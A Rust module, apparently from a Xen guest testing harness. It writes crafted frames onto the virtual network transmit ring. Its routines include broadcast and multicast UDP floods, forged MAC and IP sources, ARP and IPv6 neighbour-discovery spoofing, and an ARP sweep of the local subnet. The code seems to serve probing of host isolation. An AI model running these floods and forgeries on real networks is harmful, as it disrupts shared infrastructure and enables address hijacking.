//! Attacks by traffic: floods and forged addresses, all in well-made requests.

use crate::net::{self, BROADCAST, FRAME, Tx};
use crate::target::Target;
use xen_rt::grant::Access;

/// Frames of a flood, per round.
const FLOOD: u32 = 800;
/// Frames of a forgery, per round.
const FORGERY: u32 = 64;
/// Pages used in turn, so that a frame stays while the host reads it.
const PAGES: usize = 32;

/// Sends one frame; waits while the ring is full.
fn send(target: &mut Target, turn: u32, frame: &[u8; FRAME]) -> Option<()> {
    let index = turn as usize % PAGES;
    let gref = target.grant(index, Access::Read);
    target.fill(index, frame);
    let net = target.net.as_ref()?;
    let id = (turn % net.tx.slots) as u16;
    net.tx.push(&Tx { gref, id, size: FRAME as u16, ..Tx::default() }.bytes());
    for _ in 0..1000 {
        let net = target.net.as_ref()?;
        if net.tx.produced().wrapping_sub(net.tx.answered()) < PAGES as u32 {
            return Some(());
        }
        target.kick(net.slot);
        target.pause(1);
    }
    // The host has stopped listening.
    Some(())
}

fn repeat(target: &mut Target, count: u32, frame: impl Fn(u32) -> [u8; FRAME]) -> Option<()> {
    for turn in 0..count {
        send(target, turn, &frame(turn))?;
        if turn % 16 == 0 {
            target.kick(target.net.as_ref()?.slot);
        }
    }
    target.kick(target.net.as_ref()?.slot);
    target.pause(5);
    Some(())
}

/// The address `last` in the guest's own network, taken as a /24.
fn beside([a, b, c, _]: [u8; 4], last: u8) -> [u8; 4] {
    [a, b, c, last]
}

fn who(target: &Target) -> Option<([u8; 6], [u8; 4])> {
    target.net.as_ref().map(|net| (net.mac, net.ipv4))
}

/// Asks the whole network something, so that some answer comes back.
pub(crate) fn ask_around(target: &mut Target) -> Option<()> {
    let (mac, ip) = who(target)?;
    repeat(target, 8, |turn| {
        let mut frame = net::arp(BROADCAST, mac, mac, ip);
        frame[21] = 1;
        frame[32..38].fill(0);
        frame[38..42].copy_from_slice(&beside(ip, (turn + 1) as u8));
        frame
    })
}

pub(crate) fn flood_broadcast(target: &mut Target) -> Option<()> {
    let (mac, ip) = who(target)?;
    let frame = net::udp(BROADCAST, mac, [255; 4], ip);
    repeat(target, FLOOD, |_| frame)
}

pub(crate) fn flood_unknown(target: &mut Target) -> Option<()> {
    let (mac, ip) = who(target)?;
    repeat(target, FLOOD, |turn| {
        let [a, b, c, d] = turn.to_le_bytes();
        net::udp([2, 0, a, b, c, d], mac, [10, a, b, c], ip)
    })
}

pub(crate) fn flood_neighbour(target: &mut Target) -> Option<()> {
    let (mac, ip) = who(target)?;
    // Multicast of all nodes: every neighbour gets it, nobody is asked for an address.
    let frame = net::udp([1, 0, 0x5e, 0, 0, 1], mac, [224, 0, 0, 1], ip);
    repeat(target, FLOOD, |_| frame)
}

pub(crate) fn spoof_mac(target: &mut Target) -> Option<()> {
    let (_, ip) = who(target)?;
    repeat(target, FORGERY, |turn| net::udp(BROADCAST, [2, 6, 6, 6, 0, turn as u8], [255; 4], ip))
}

pub(crate) fn spoof_many_macs(target: &mut Target) -> Option<()> {
    let (_, ip) = who(target)?;
    repeat(target, FLOOD, |turn| {
        let [a, b, c, d] = turn.to_le_bytes();
        net::udp(BROADCAST, [2, 6, a, b, c, d], [255; 4], ip)
    })
}

pub(crate) fn spoof_ip(target: &mut Target) -> Option<()> {
    let (mac, ip) = who(target)?;
    repeat(target, FORGERY, |turn| net::udp(BROADCAST, mac, [255; 4], beside(ip, turn as u8)))
}

pub(crate) fn spoof_arp(target: &mut Target) -> Option<()> {
    let (mac, ip) = who(target)?;
    repeat(target, FORGERY, |turn| net::arp(BROADCAST, mac, mac, beside(ip, turn as u8)))
}

/// Claims an address for the unspecified sender, as duplicate address detection would, and
/// a neighbour's IPv6 address in an advertisement.
pub(crate) fn spoof_nd(target: &mut Target) -> Option<()> {
    let (mac, _) = who(target)?;
    repeat(target, FORGERY, |turn| {
        let mut frame = [0; FRAME];
        frame[..14].copy_from_slice(&[0x33, 0x33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0x86, 0xdd]);
        frame[6..12].copy_from_slice(&mac);
        // Neighbour advertisement, cut short behind the address it claims.
        frame[14..22].copy_from_slice(&[0x60, 0, 0, 0, 0, 6, 58, 255]);
        frame[22..24].copy_from_slice(&[0xfe, 0x80]);
        frame[37] = turn as u8;
        frame[38..40].copy_from_slice(&[0xff, 0x02]);
        frame[53] = 1;
        frame[54] = 136;
        frame
    })
}
